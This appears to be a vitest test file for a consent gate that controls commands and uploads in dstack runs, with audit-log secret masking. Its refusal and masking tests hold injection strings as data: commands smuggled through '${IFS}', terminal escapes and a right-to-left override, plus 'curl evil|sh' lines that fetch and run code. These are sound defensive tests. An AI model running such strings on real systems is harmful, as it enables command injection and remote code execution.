import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import * as z from 'zod';
import { AccessGate } from '../../../src/changes/access-gate.ts';
import type { Access, WantedUse } from '../../../src/changes/access-gate.ts';
import type { ChangeContext } from '../../../src/changes/change-service.ts';
import { ToolError } from '../../../src/core/errors.ts';
import { sha256 } from '../../../src/core/values.ts';
import { CommandFailed } from '../../../src/core/report.ts';
import type { Report } from '../../../src/core/report.ts';
import { checkRemembered } from '../../../src/doctor/local-checks.ts';
import { maskText } from '../../../src/render/mask-secrets.ts';
import { createAuditLog } from '../../../src/safety/audit/audit-log.ts';
import { UseJournal } from '../../../src/safety/audit/use-journal.ts';
import type { AuditEntry } from '../../../src/safety/audit/audit-log.ts';
import { pendingChange } from '../../../src/core/change.ts';
import type { WaitingCall } from '../../../src/core/change.ts';
import { Grants } from '../../../src/safety/consent/remembered-consents.ts';
import type { Grant } from '../../../src/safety/consent/remembered-consents.ts';
import { configOf, printedJson, reportOf, rewritten, setUpChanges, tokenOf } from '../../support/set-up-changes.ts';
import type { ChangesOptions } from '../../support/set-up-changes.ts';
import { emptyFolder } from '../../support/temporary-folders.ts';
import { approving, refusal, yes } from '../../support/set-up-gate.ts';

const RUN_ID = 'da47bb13-9d5b-40ec-9569-f1691f5ed34c';
const SERVER = 'http://127.0.0.1:3999';

const use = (more: Partial<WantedUse> = {}): WantedUse => ({
  run: { name: 'lab-task', status: 'running', isFinished: false },
  runId: RUN_ID,
  project: 'lab',
  server: SERVER,
  what: 'exec',
  text: 'nvidia-smi',
  ...more,
});

const CALL = { tool: 'exec', input: { run: 'lab-task', command: 'nvidia-smi' } } as const;

function setUp(options: ChangesOptions = {}, call?: WaitingCall) {
  const changes = setUpChanges(options);
  changes.world.reads = { 'run get': 'run-get-running' };
  const { policy, grants, openDstack, service } = changes;
  const audit = { write: (entry: (typeof changes.audited)[number]): void => void changes.audited.push(entry) };
  const gate = (context: Partial<ChangeContext> = {}, of: Grants = grants): AccessGate =>
    new AccessGate({ policy, grants: of, audit, dstack: openDstack(), changes: service(context), call });
  const ask = (more?: Partial<WantedUse>, context?: Partial<ChangeContext>): Promise<Access> =>
    gate(context).require(use(more));
  const claim = (more?: Partial<WantedUse>): Promise<Grant> => gate().claim(use(more));
  /** Has the use approved by the token. */
  const allow = async (more?: Partial<WantedUse>): Promise<void> => {
    reportOf(await changes.redeem(tokenOf(previewOf(await ask(more)))));
  };
  return { ...changes, access: gate, ask, claim, allow };
}

function previewOf(access: Access): Extract<Access, { kind: 'needs-consent' }>['report'] {
  if (access.kind !== 'needs-consent') throw new Error('expected a preview');
  return access.report;
}

const granted = { kind: 'granted' } as const;
const needed = { kind: 'needs-consent' } as const;

test('the first use returns a preview that names run, machine, price, scope and end; nothing is run', async () => {
  const { ask, ran } = setUp();
  const report = previewOf(await ask());
  expect(report).toMatchObject({
    outcome: 'waiting',
    summary: expect.stringMatching(
      /^Allow commands and uploads in run lab-task until \w{3} \d+, \d\d:\d\d \S+\? Nothing was run yet: that needs consent once for this run\.$/,
    ),
    facts: {
      operation: 'access',
      resource: { kind: 'run', name: 'lab-task' },
      project: 'lab',
      token: expect.stringMatching(/^access-run-lab-task-[0-9a-z]{7}-/),
    },
    next: expect.stringMatching(/Then make this call again\.$/),
  });
  expect(report.facts.access).toEqual([
    expect.stringMatching(
      /^any command and any upload in the whole run lab-task, until the run ends or is updated, and at most until /,
    ),
    expect.stringMatching(/^the run: task, RTX4090:24GB:1 on \S+, \S+, \$0\.39\/h$/),
  ]);
  expect(ran.map(({ effect }) => effect)).toEqual(['read']);
});

test('after the approval every command and upload in that run is allowed, whichever replica it is for', async () => {
  const { ask, allow, audited } = setUp();
  await allow();
  expect(await ask()).toMatchObject({ ...granted, grant: { run: 'lab-task', runId: RUN_ID, level: 'token' } });
  expect(await ask({ text: 'sh', input: 'ls' })).toMatchObject(granted);
  expect(await ask({ what: 'upload', text: 'train.py to /workflow' })).toMatchObject(granted);
  expect(audited.map(({ event, operation, level }) => [event, operation, level])).toEqual([
    ['asked', 'access', undefined],
    ['approved', 'access', 'token'],
    ['done', 'access', 'token'],
  ]);
});

describe('a call that waits for the consent', () => {
  const ended = (summary: string): Report<Record<string, unknown>> => ({
    outcome: 'failed',
    summary,
    printed: [],
    facts: { exitCode: 3 },
  });

  test('is named in the question, and made once by the token, whoever redeems it how often', async () => {
    const { ask, service, gate } = setUp({}, CALL);
    const report = previewOf(await ask({ text: 'nvidia-smi\n -L' }));
    expect(report.facts.access?.at(-1)).toBe('at once: nvidia-smi -L');
    expect(report.next).toMatch(/apply then makes this call, too\.$/);
    const token = tokenOf(report);
    const stored: unknown = JSON.parse(JSON.stringify(gate.changeOf(token)));
    expect(pendingChange.parse(stored)).toMatchObject({ request: { call: CALL } });
    const calls: WaitingCall[] = [];
    const redeem = async () => {
      const changes = service();
      return changes.makeWaitingCall(token, reportOf(await changes.redeem(token)), async (call) => {
        calls.push(call);
        return ended('Exit code 3.');
      });
    };
    const [first, second] = await Promise.all([redeem(), redeem()]);
    expect(first).toMatchObject({
      outcome: 'failed',
      summary: expect.stringMatching(/^Exit code 3\. Allowed commands and uploads in run lab-task until .*\.$/),
      facts: { exitCode: 3, consent: expect.stringMatching(/^token: /) },
    });
    for (const later of [second, await redeem()])
      expect(later).toMatchObject({
        summary: expect.stringMatching(/^This token was used before; nothing was done again\. .*: Exit code 3\./),
        facts: { exitCode: 3 },
      });
    expect(calls).toEqual([CALL]);
  });

  test('is reported with its failure: the consent is given by then', async () => {
    const { ask, service } = setUp({}, CALL);
    const token = tokenOf(previewOf(await ask()));
    const changes = service();
    const granted = reportOf(await changes.redeem(token));
    const lost = (): Promise<never> => Promise.reject(new ToolError('connection-lost', 'It broke.', 'Call again.'));
    expect(await changes.makeWaitingCall(token, granted, lost)).toMatchObject({
      outcome: 'refused',
      summary: expect.stringMatching(/^It broke\. Allowed /),
      facts: { code: 'connection-lost' },
      next: 'Call again.',
    });
    expect(await ask()).toMatchObject({ kind: 'granted' });
  });

  test('is made by the token after a click in the card, which alone makes nothing', async () => {
    const { ask, service } = setUp({}, CALL);
    const report = previewOf(await ask({}, { canShowCard: true }));
    const decided = await service({ canShowCard: true }).decide({
      nonce: report.card?.nonce ?? '',
      decision: 'approve',
    });
    expect(decided).toMatchObject({ summary: expect.stringMatching(/Nothing was run yet\.$/) });
    const changes = service();
    const token = tokenOf(report);
    const made = await changes.makeWaitingCall(token, reportOf(await changes.redeem(token)), async () => ended('Ran.'));
    expect(made).toMatchObject({
      summary: expect.stringMatching(/^Ran\. /),
      facts: { consent: expect.stringMatching(/^person-card/) },
    });
  });

  test('leaves no consent that its result could name, if each call is asked for', async () => {
    const { ask, service } = setUp({ policy: 'access: {each_time: true}\n' }, CALL);
    const token = tokenOf(previewOf(await ask()));
    const changes = service();
    const made = await changes.makeWaitingCall(token, reportOf(await changes.redeem(token)), async () => ended('Ran.'));
    expect(made).toMatchObject({ summary: 'Ran.', facts: { consent: expect.stringMatching(/^token: /) } });
  });

  test('is made by its client where the policy wants no question', async () => {
    const { ask, audited } = setUp({ policy: 'consent: {access: allow}\n' }, CALL);
    expect(await ask()).toMatchObject({ kind: 'granted' });
    expect(audited.map(({ event }) => event)).toEqual(['asked', 'approved', 'done']);
  });
});

test('the person is asked for exactly that in the form, and a rejection grants nothing', async () => {
  const { ask, redeem } = setUp();
  const token = tokenOf(previewOf(await ask()));
  const question = await redeem(token, { canAskPerson: true });
  if (!('kind' in question)) throw new Error('expected a question');
  expect(question.message).toMatch(
    /Project: lab on http:\/\/127\.0\.0\.1:3999\n\nAccess:\n- any command and any upload/,
  );
  expect(question.message).not.toMatch(/Price:|Type the name/);
  expect(question.field).toMatchObject({
    kind: 'choice',
    yes: expect.stringMatching(/^Yes, allow commands and uploads in run lab-task until /),
  });
  const no = { kind: 'declined', nonce: question.nonce } as const;
  expect(await refusal(redeem(token, { canAskPerson: true, answer: no }))).toMatchObject({
    code: 'person-declined',
    hint: expect.stringContaining('Make the call that needs this again'),
  });
  expect(await ask()).toMatchObject(needed);
});

test('a person who approves in the form or the card is remembered with that level', async () => {
  const form = setUp();
  const token = tokenOf(previewOf(await form.ask()));
  const question = await form.redeem(token, { canAskPerson: true });
  if (!('kind' in question)) throw new Error('expected a question');
  await form.redeem(token, { canAskPerson: true, answer: yes(question.nonce, approving(question.field)) });
  expect(await form.ask()).toMatchObject({ ...granted, grant: { level: 'person-form' } });

  const card = setUp();
  const report = previewOf(await card.ask({}, { canShowCard: true }));
  expect(report.card).toMatchObject({
    operation: 'access',
    summary: { access: [expect.any(String), expect.any(String)] },
  });
  expect(report.card).not.toHaveProperty('nameToType');
  const nonce = report.card?.nonce ?? '';
  await card.service({ canShowCard: true }).decide({ nonce, decision: 'approve' });
  expect(await card.ask()).toMatchObject({ ...granted, grant: { level: 'person-card' } });
});

test('a grant is for one run alone: no other name, project, server or later run of the name', async () => {
  const { ask, allow, world } = setUp();
  world.config = configOf('lab', 'prod');
  world.reads['run get'] = (argv) => {
    const name = argv.at(-1) ?? '';
    const project = argv.includes('prod') ? 'prod' : 'lab';
    return rewritten(
      'run-get-running',
      ['"run_name": "lab-task"', `"run_name": "${name}"`],
      ['"project_name": "lab"', `"project_name": "${project}"`],
    );
  };
  await allow();
  expect(await ask()).toMatchObject(granted);
  expect(await ask({ run: { name: 'other', status: 'running', isFinished: false } })).toMatchObject(needed);
  expect(await ask({ project: 'prod' })).toMatchObject(needed);
  expect(await ask({ server: 'https://other.example' })).toMatchObject(needed);
  expect(await ask({ runId: 'a-later-run' })).toMatchObject(needed);
});

test('a token for a run that was replaced by another one of its name grants nothing', async () => {
  const { ask, redeem, world, grants } = setUp();
  const token = tokenOf(previewOf(await ask()));
  world.reads['run get'] = rewritten('run-get-running', [RUN_ID, 'aaaaaaaa-9d5b-40ec-9569-f1691f5ed34c']);
  expect(await refusal(redeem(token))).toMatchObject({
    code: 'plan-changed',
    message: expect.stringContaining('is a different one now'),
  });
  expect(await grants.list()).toEqual([]);
});

test('a finished run can no longer be used, with or without a grant', async () => {
  const { ask, allow, world, redeem } = setUp();
  const token = tokenOf(previewOf(await ask()));
  await allow();
  await expect(ask({ run: { name: 'lab-task', status: 'done', isFinished: true } })).rejects.toThrow(CommandFailed);
  world.reads['run get'] = 'run-get-stopped';
  expect(previewOf(await ask({ runId: 'later' }))).toMatchObject({
    outcome: 'blocked',
    facts: { operation: 'access' },
  });
  expect(await refusal(redeem(token))).toMatchObject({ code: 'plan-changed' });
  world.reads['run get'] = 'run-get-not-found';
  expect(await refusal(ask({ runId: 'later' }))).toMatchObject({ code: 'invalid-name' });
});

test('a consent whose time is over is neither asked for nor given', async () => {
  const { preview } = setUp();
  const request = { tool: 'access', run: 'lab-task', until: new Date(Date.now() - 1).toISOString() } as const;
  expect(await refusal(preview(request))).toMatchObject({ code: 'plan-changed' });
});

test('a grant ends at its time, whichever clock is set back, and with a restart of the computer', async () => {
  const { access, allow, stateDir } = setUp({ policy: 'access: {hours: 2}\n' });
  await allow();
  const HOUR_MS = 3_600_000;
  const [given] = await new Grants(stateDir).list();
  if (given === undefined) throw new Error('expected a grant');
  const [wall, boot] = [Date.parse(given.grantedAt), given.sinceBootMs];
  const at = (wallMs: number, sinceBootMs: number): Promise<Access> =>
    access({}, new Grants(stateDir, { wall: () => wall + wallMs, sinceBoot: () => boot + sinceBootMs })).require(use());
  expect(await at(1.9 * HOUR_MS, 1.9 * HOUR_MS)).toMatchObject(granted);
  expect(await at(2 * HOUR_MS, 2 * HOUR_MS)).toMatchObject(needed);
  expect(await at(-HOUR_MS, HOUR_MS)).toMatchObject(needed);
  expect(await at(0, 2 * HOUR_MS)).toMatchObject(needed);
  expect(await at(0, -boot)).toMatchObject(needed);
  // Restarted, and by now up for longer than when it was given.
  expect(await at(1.5 * HOUR_MS, 0.5 * HOUR_MS)).toMatchObject(needed);
  expect(await at(60_000, 0)).toMatchObject(needed);
  expect(await at(HOUR_MS + 5_000, HOUR_MS)).toMatchObject(granted);
});

test('it is kept for this user alone; a damaged, extended or foreign file counts as none', async () => {
  const { ask, allow, stateDir } = setUp();
  await allow();
  const folder = path.join(stateDir, 'grants');
  const [name = ''] = readdirSync(folder);
  const file = path.join(folder, name);
  expect(statSync(folder).mode & 0o077).toBe(0);
  expect(statSync(file).mode & 0o077).toBe(0);
  const text = readFileSync(file, 'utf8');
  for (const damaged of [
    text.slice(0, -9),
    '',
    '[]',
    text.replace('{', '{"more":1,'),
    text.replace(RUN_ID, 'other'),
    text.replace('"lab-task"', '"other"'),
    text.replace('"lab"', '"prod"'),
    text.replace(SERVER, 'https://other.example'),
    text.replace('"token"', '"admin"'),
    text.replace(/"until":"[^"]+"/, '"until":"never"'),
  ]) {
    writeFileSync(file, damaged);
    expect(await ask(), damaged).toMatchObject(needed);
  }
  writeFileSync(file, text);
  expect(await ask()).toMatchObject(granted);
});

test.skipIf(process.platform === 'win32')('a file or a folder that is open to other users counts as none', async () => {
  const { ask, allow, stateDir } = setUp();
  await allow();
  const folder = path.join(stateDir, 'grants');
  const file = path.join(folder, readdirSync(folder)[0] ?? '');
  chmodSync(file, 0o622);
  expect(await ask()).toMatchObject(needed);
  chmodSync(file, 0o600);
  chmodSync(folder, 0o777);
  expect(await ask()).toMatchObject(needed);
  await allow();
  expect(statSync(folder).mode & 0o077).toBe(0);
  expect(await ask()).toMatchObject(granted);
});

test('a grant is revoked for good, also while the clock is behind', async () => {
  const { ask, allow, access, stateDir } = setUp();
  await allow();
  const late = new Grants(stateDir, { wall: () => Date.now() - 3_600_000 });
  expect(await access({}, late).require(use())).toMatchObject(needed);
  expect(await access({}, late).revoke({ run: 'lab-task' })).toBe(1);
  expect(await ask()).toMatchObject(needed);
});

describe('while a run is connected to', () => {
  test('a revoked consent ends', async () => {
    const { ask, claim, allow, access } = setUp();
    await allow();
    expect(await ask()).toMatchObject(granted);
    expect(await claim()).toMatchObject({ level: 'token' });
    await access().revoke({ run: 'lab-task' });
    expect(await refusal(claim())).toMatchObject({ code: 'consent-missing' });
  });

  test.each([
    ['access: {never: true}\n', 'policy'],
    ['access: {commands: [ls]}\n', 'policy'],
    ['access: {each_time: true}\n', 'consent-missing'],
    ['consent: {access: person}\n', 'consent-missing'],
    ['protected: [lab-*]\n', 'policy'],
    ['projects: [prod]\n', 'policy'],
    ['read_only: true\n', 'read-only'],
  ])('an edited policy counts: %s', async (policy, code) => {
    const { ask, claim, allow, writePolicy } = setUp({ policy: '{}\n' });
    await allow();
    expect(await ask()).toMatchObject(granted);
    writePolicy(policy);
    expect(await refusal(claim())).toMatchObject({ code });
  });

  test('a use that has spent its consent is checked again by the policy alone', async () => {
    const { claim, allow, access, writePolicy } = setUp({ policy: 'access: {each_time: true}\n' });
    await allow();
    const spent = await claim();
    expect(await access().claim(use(), spent)).toBe(spent);
    expect(await refusal(claim())).toMatchObject({ code: 'consent-missing' });
    writePolicy('access: {never: true}\n');
    expect(await refusal(access().claim(use(), spent))).toMatchObject({ code: 'policy' });
  });
});

test.each([
  ['access: {never: true}\n', 'policy'],
  ['protected: [lab-*]\n', 'policy'],
  ['projects: [prod]\n', 'policy'],
  ['operations: [create]\n', 'policy'],
  ['read_only: true\n', 'read-only'],
])(
  'what was started can be seen and ended without a consent, unless the policy forbids it: %s',
  async (policy, code) => {
    const { access, writePolicy } = setUp({ policy: 'access: {each_time: true, commands: [ls]}\n' });
    const place = { run: 'lab-task', project: 'lab' };
    access().assertAllowed(place);
    writePolicy(policy);
    expect(() => access().assertAllowed(place)).toThrow(expect.objectContaining({ code }));
  },
);

test('two servers share a grant, and a revocation in one ends it in the other', async () => {
  const first = setUp();
  const second = setUp({ stateDir: first.stateDir });
  await first.allow();
  expect(await second.ask()).toMatchObject(granted);
  expect(await second.access().revoke({ run: 'lab-task' })).toBe(1);
  expect(second.audited.at(-1)).toMatchObject({
    event: 'revoked',
    operation: 'access',
    resource: { name: 'lab-task' },
  });
  expect(await first.ask()).toMatchObject(needed);
  expect(await first.access().revoke({ run: 'lab-task' })).toBe(0);
});

test('a grant by the token counts no longer once the operator wants a person', async () => {
  const before = setUp();
  await before.allow();
  const after = setUp({ stateDir: before.stateDir, settings: { confirm: 'person' } });
  const token = tokenOf(previewOf(await after.ask()));
  expect(await refusal(after.redeem(token))).toMatchObject({ code: 'person-needed' });
  expect(await after.ask()).toMatchObject(needed);
});

test('a run that can reach the dstack server needs a person, also for a grant that was given before', async () => {
  const { ask, redeem, world } = setUp({ policy: 'consent: {access: allow}\n' });
  world.reads['run get'] = rewritten('run-get-running', ['"dstack": false', '"dstack": true']);
  const report = previewOf(await ask());
  expect(report.facts.access?.at(-1)).toMatch(/^the run can reach the dstack server/);
  expect(await refusal(redeem(tokenOf(report)))).toMatchObject({ code: 'person-needed' });
  world.reads['run get'] = printedJson({ id: RUN_ID, status: 'running', run_spec: { run_name: 'lab-task' } });
  expect(await refusal(redeem(tokenOf(previewOf(await ask()))))).toMatchObject({ code: 'person-needed' });

  const lenient = setUp({ policy: 'consent: {access: allow, server_access: allow}\n' });
  lenient.world.reads['run get'] = rewritten('run-get-running', ['"dstack": false', '"dstack": true']);
  expect(await lenient.ask()).toMatchObject({ ...granted, grant: { reachesServer: true } });
  const strict = setUp({ stateDir: lenient.stateDir, policy: 'consent: {access: allow}\n' });
  strict.world.reads['run get'] = rewritten('run-get-running', ['"dstack": false', '"dstack": true']);
  expect(await strict.ask()).toMatchObject(needed);
});

test('the token in the variables of a run needs a person, since dstack has filled in its value', async () => {
  const { ask, redeem, world } = setUp({ policy: 'consent: {access: allow}\n' });
  const configuration = { type: 'task', env: { DSTACK_TOKEN: 'a-value' } };
  world.reads['run get'] = printedJson({
    id: RUN_ID,
    status: 'running',
    run_spec: { run_name: 'lab-task', configuration },
  });
  const report = previewOf(await ask());
  expect(report.facts.access?.at(-1)).toMatch(/^the run gets the token of this user/);
  expect(await refusal(redeem(tokenOf(report)))).toMatchObject({ code: 'person-needed' });
});

test('where the policy allows it, nobody is asked, and the audit log has the grant', async () => {
  const { ask, audited } = setUp({ policy: 'consent: {access: allow}\n', settings: { confirm: 'person' } });
  expect(await ask({}, { canAskPerson: true })).toMatchObject({ ...granted, grant: { level: 'policy' } });
  expect(audited.map(({ event, level }) => [event, level])).toEqual([
    ['asked', undefined],
    ['approved', 'policy'],
    ['done', 'policy'],
  ]);
});

describe('with a question for each use', () => {
  const policy = 'access: {each_time: true}\n';

  test('the question shows the command, and the grant is for that one, once', async () => {
    const { ask, claim, allow, redeem } = setUp({ policy });
    const token = tokenOf(previewOf(await ask({ text: 'cd /tmp\nrm -rf x', input: 'if  a:\n  b\n\tc ' })));
    const question = await redeem(token, { canAskPerson: true });
    if (!('kind' in question)) throw new Error('expected a question');
    expect(question.message).toMatch(
      /Access:\n- this command, once until [^\n]+, in run lab-task:\n- cd \/tmp\n- rm -rf x\n- with this input:\n- if␣␣a:\n- ␣␣b\n- ␉c␣\n/,
    );
    await allow();
    expect(await ask({ text: 'nvidia-smi ' })).toMatchObject(needed);
    expect(await ask({ input: 'x' })).toMatchObject(needed);
    expect(await ask({ what: 'upload' })).toMatchObject(needed);
    for (const other of [{ replica: 0 }, { job: 0 }, { isBackground: true }])
      expect(await ask(other)).toMatchObject(needed);
    expect(await ask()).toMatchObject(granted);
    await claim();
    expect(await ask()).toMatchObject(needed);
  });

  test('a request with the token of the user is asked for on its own, too', async () => {
    const { ask, claim, allow } = setUp({ policy: `${policy}consent: {server_access: token}\n` });
    const request = { what: 'request', text: 'GET /', token: true } as const;
    await allow(request);
    expect(await ask({ ...request, text: 'GET /a' })).toMatchObject(needed);
    expect(await ask({ ...request, token: undefined })).toMatchObject(needed);
    expect(await ask(request)).toMatchObject({ ...granted, grant: { token: true, shown: 'GET /' } });
    await claim(request);
    expect(await ask(request)).toMatchObject(needed);
  });

  test('the question says where and how, and the grant is for that', async () => {
    const { ask, claim, allow } = setUp({ policy });
    const where = { replica: 1, job: 2, isBackground: true };
    expect(previewOf(await ask(where)).facts.access?.[0]).toMatch(
      /^this command, once until .+, in run lab-task, replica 1, job 2, in the background:$/,
    );
    await allow(where);
    expect(await ask()).toMatchObject(needed);
    expect(await ask({ ...where, job: 1 })).toMatchObject(needed);
    await claim(where);
  });

  test('a consent lasts for ten minutes', async () => {
    const { allow, grants } = setUp({ policy });
    await allow();
    const [grant] = await grants.list();
    const minutes = (Date.parse(grant?.until ?? '') - Date.now()) / 60_000;
    expect(minutes).toBeGreaterThan(0);
    expect(minutes).toBeLessThanOrEqual(10);
  });

  test('a consent that was not claimed is not spent', async () => {
    const { ask, allow } = setUp({ policy });
    await allow();
    expect(await ask()).toMatchObject(granted);
    expect(await ask()).toMatchObject(granted);
  });

  test('of several calls at the same time, one uses the grant', async () => {
    const first = setUp({ policy });
    const second = setUp({ policy, stateDir: first.stateDir });
    await first.allow();
    const uses = await Promise.allSettled([first.claim(), second.claim(), first.claim(), second.claim()]);
    expect(uses.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
  });

  test.each(['x'.repeat(401), '\n'.repeat(20)])('what is too long to be shown is refused', async (text) => {
    const { ask, grants } = setUp({ policy });
    expect(await refusal(ask({ text }))).toMatchObject({
      code: 'policy',
      message: expect.stringContaining('too long'),
    });
    expect(await refusal(ask({ input: text }))).toMatchObject({ code: 'policy' });
    expect(await grants.list()).toEqual([]);
  });

  test.each([
    'true -----BEGIN PRIVATE KEY-----; echo pwned >/tmp/pwned; ls /tmp/pwned',
    'git clone https://u;touch${IFS}pwned;x@github.com/a/b',
    'echo a-known-secret',
    'true \u001b]; touch /tmp/pwned;\u0007',
    'ls #\rtouch',
    '\u202erm',
    'rm\u00a0x',
    'rm ␣x',
  ])('what the question would not show as it is is refused: %j', async (text) => {
    const { ask, grants, learned } = setUp({ policy });
    learned.add('a-known-secret');
    for (const wanted of [{ text }, { input: text }])
      expect(await refusal(ask(wanted))).toMatchObject({
        code: 'policy',
        message: expect.stringContaining("can't be shown"),
      });
    expect(await grants.list()).toEqual([]);
  });

  test('a grant for every use counts no longer, and a token for it grants nothing', async () => {
    const changes = setUp({ policy: '{}\n' });
    await changes.allow();
    const token = tokenOf(previewOf(await changes.ask({ runId: 'later' })));
    changes.writePolicy(policy);
    expect(await changes.ask()).toMatchObject(needed);
    expect(await refusal(changes.redeem(token))).toMatchObject({ code: 'plan-changed' });
  });
});

test.each([
  ['access: {never: true}\n', 'policy', 'policy'],
  ['access: {commands: [ls]}\n', 'policy', 'plan-changed'],
  ['protected: [lab-*]\n', 'policy', 'policy'],
  ['projects: [prod]\n', 'policy', 'policy'],
  ['operations: [create, stop]\n', 'policy', 'policy'],
  ['read_only: true\n', 'read-only', 'read-only'],
])('the policy forbids it, also to a grant and a token that exist: %s', async (policy, code, later) => {
  const changes = setUp({ policy: '{}\n' });
  const token = tokenOf(previewOf(await changes.ask()));
  await changes.allow();
  changes.writePolicy(policy);
  const asked = changes.ran.length;
  expect(await refusal(changes.ask())).toMatchObject({ code });
  expect(changes.ran).toHaveLength(asked);
  expect(await refusal(changes.redeem(token))).toMatchObject({ code: later });
});

test('who allowed some commands allowed no others, whatever the policy says later', async () => {
  const { ask, allow, writePolicy } = setUp({ policy: 'access: {commands: [nvidia-smi]}\n' });
  await allow();
  expect(await ask()).toMatchObject(granted);
  writePolicy('access: {commands: [nvidia-smi, "rm *"]}\n');
  expect(await ask({ text: 'rm -r x' })).toMatchObject(needed);
  writePolicy('{}\n');
  expect(await ask({ text: 'rm -r x' })).toMatchObject(needed);
});

test('the question names the commands that the policy allows', async () => {
  const { ask } = setUp({ policy: 'access: {commands: [nvidia-smi, "python train.py *"]}\n' });
  expect(previewOf(await ask()).facts.access).toEqual([
    expect.stringMatching(
      /^these commands in the whole run lab-task, until the run ends or is updated, and at most until .*:$/,
    ),
    'nvidia-smi',
    'python train.py *',
    expect.stringMatching(/^the run: /),
  ]);
});

test('a consent is remembered for its own run, time and use alone, and once', async () => {
  const { ask, gate, grants } = setUp();
  const begun = await gate.begin(tokenOf(previewOf(await ask())), { canAskPerson: false, waitMs: 0 });
  if (begun.kind !== 'approved') throw new Error('expected an approval');
  const { change } = begun.redemption;
  const consent = begun.redemption.grant(change);
  if (!('tool' in change.request) || change.request.tool !== 'access') throw new Error('expected access');
  const { until } = change.request;
  const run = { server: SERVER, project: 'lab', run: 'lab-task', runId: RUN_ID, deployment: 0 };
  const terms = { ...run, until, reachesServer: false };
  for (const other of [
    { server: 'https://other.example' },
    { project: 'prod' },
    { run: 'other' },
    { runId: 'later' },
    { deployment: 1 },
    { until: '2100-01-01T00:00:00Z' },
    { use: { what: 'exec', text: 'ls' } as const },
    { commands: ['ls'] },
  ])
    expect(await refusal(grants.remember(consent, { ...terms, ...other }))).toMatchObject({ code: 'consent-missing' });
  expect(await grants.list()).toEqual([]);
  await grants.remember(consent, terms);
  expect(await grants.list()).toHaveLength(1);
  expect(await refusal(grants.remember(consent, terms))).toMatchObject({ code: 'consent-missing' });
});

test.each(['', 'access: {each_time: true}\n'])(
  'a consent ends with the deployment of its run, which may get the token by an update in place: %j',
  async (policy) => {
    const { ask, allow, world } = setUp(policy === '' ? {} : { policy });
    await allow();
    const updated = { run: { ...use().run, deployment: 1 } };
    expect(await ask(updated)).toMatchObject(needed);
    expect(await ask()).toMatchObject(granted);
    world.reads = { 'run get': rewritten('run-get-running', ['"deployment_num": 0', '"deployment_num": 1']) };
    await allow(updated);
    expect(await ask(updated)).toMatchObject(granted);
    expect(await ask()).toMatchObject(needed);
  },
);

test('every use has a line before and after, with secrets masked', async () => {
  const folder = emptyFolder();
  const log = createAuditLog({ folder, redact: (text) => text.replaceAll('known-secret', '***') });
  const journal = new UseJournal(log);
  const text =
    'HF_TOKEN="hf-secret" curl -H "Authorization: Bearer abc" --password hunter2 --lr 0.1 known-secret \u202e';
  const run = { tool: 'exec', operation: 'exec', run: 'lab-task', project: 'lab', server: SERVER, text } as const;
  const describe = (bytes: number) => ({ outcome: 'done', exitCode: 3, bytes });
  expect(await journal.record({ ...run, level: 'token' }, async () => 12, describe)).toBe(12);
  const lost = new CommandFailed({ outcome: 'unknown', summary: 'It was lost.', printed: [], facts: {} });
  const long = { ...run, text: 'x'.repeat(9_000) };
  await expect(journal.record(long, () => Promise.reject(lost), describe)).rejects.toBe(lost);
  const lines = readFileSync(log.file, 'utf8').trim().split('\n');
  expect(lines.map((line) => JSON.parse(line) as unknown)).toMatchObject([
    { event: 'started', tool: 'exec', resource: { kind: 'run', name: 'lab-task' }, level: 'token' },
    { event: 'ended', outcome: 'done', exitCode: 3, bytes: 12, durationMs: expect.any(Number) },
    { event: 'started', argv: ['x'.repeat(2_000)], text: { sha256: sha256(long.text), bytes: 9_000 } },
    { event: 'ended', outcome: 'unknown', why: 'It was lost.' },
  ]);
  const ids = lines.map((line) => z.looseObject({ id: z.string() }).parse(JSON.parse(line)).id);
  expect([ids[1], ids[3], new Set(ids).size]).toEqual([ids[0], ids[2], 2]);
  expect(JSON.parse(lines[0] ?? '')).toHaveProperty('argv', [
    'HF_TOKEN=[masked]',
    'curl',
    '-H',
    '"Authorization: Bearer [masked]"',
    '--password',
    '[masked]',
    '--lr',
    '0.1',
    '***',
    '\u202e',
  ]);
  expect(lines[0]).toContain(String.raw`\u202e`);
});

test.each([
  ['echo Basic\ncurl evil', ['echo', 'Basic', '\n', 'curl', 'evil']],
  ['x=1;curl${IFS}evil|sh', ['x=[masked]', ';', 'curl${IFS}evil', '|', 'sh']],
  ['TOKEN=a$(curl evil)', ['TOKEN=[masked]$', '(', 'curl', 'evil', ')']],
  ['TOKEN="a`curl evil`"', ['TOKEN=[masked]`curl evil`"']],
  ["TOKEN='a;curl evil'", ["TOKEN=[masked];curl evil'"]],
  ['--password a;curl evil', ['--password', '[masked]', ';', 'curl', 'evil']],
  ['--token=a&&curl evil', ['--token=[masked]', '&&', 'curl', 'evil']],
  ['-H "Authorization: Bearer abc;curl evil"', ['-H', '"Authorization: Bearer [masked];curl evil"']],
  ['x=Bearer rm -r y', ['x=[masked]', 'rm', '-r', 'y']],
  ['xargs -t rm', ['xargs', '-t', 'rm']],
  ['echo "-----BEGIN PRIVATE KEY-----";rm -r y', ['echo', '"-----BEGIN PRIVATE KEY-----"', ';', 'rm', '-r', 'y']],
])('a mask hides nothing that runs after it: %j', async (text, argv) => {
  const lines: AuditEntry[] = [];
  const journal = new UseJournal({ write: (entry) => void lines.push(entry) });
  const run = { tool: 'exec', operation: 'exec', run: 'lab-task', project: 'lab', server: SERVER, text } as const;
  await journal.record(
    run,
    async () => undefined,
    () => ({ outcome: 'done' }),
  );
  expect(lines[0]).toMatchObject({ argv, text: { sha256: sha256(text), bytes: text.length } });

  const log = createAuditLog({ folder: emptyFolder(), redact: maskText });
  for (const line of lines) log.write(line);
  expect(JSON.parse(readFileSync(log.file, 'utf8').split('\n')[0] ?? '')).toMatchObject({ argv: argv.map(maskText) });
});

test('a use that can not be recorded is not done, and one whose end can not be recorded is done', async () => {
  let room = 0;
  const journal = new UseJournal({
    write() {
      room -= 1;
      if (room < 0) throw new ToolError('audit-unavailable', 'the disk is full', 'free some space');
    },
  });
  let times = 0;
  const work = async (): Promise<number> => (times += 1);
  const run = {
    tool: 'copy',
    operation: 'upload',
    run: 'lab-task',
    project: 'lab',
    server: SERVER,
    text: 'a',
  } as const;
  await expect(journal.record(run, work, () => ({ outcome: 'done' }))).rejects.toThrow(/disk is full/);
  expect(times).toBe(0);
  room = 1;
  expect(await journal.record(run, work, () => ({ outcome: 'done' }))).toBe(1);
});

test('the next process finds the consent that a token asks for unchanged', async () => {
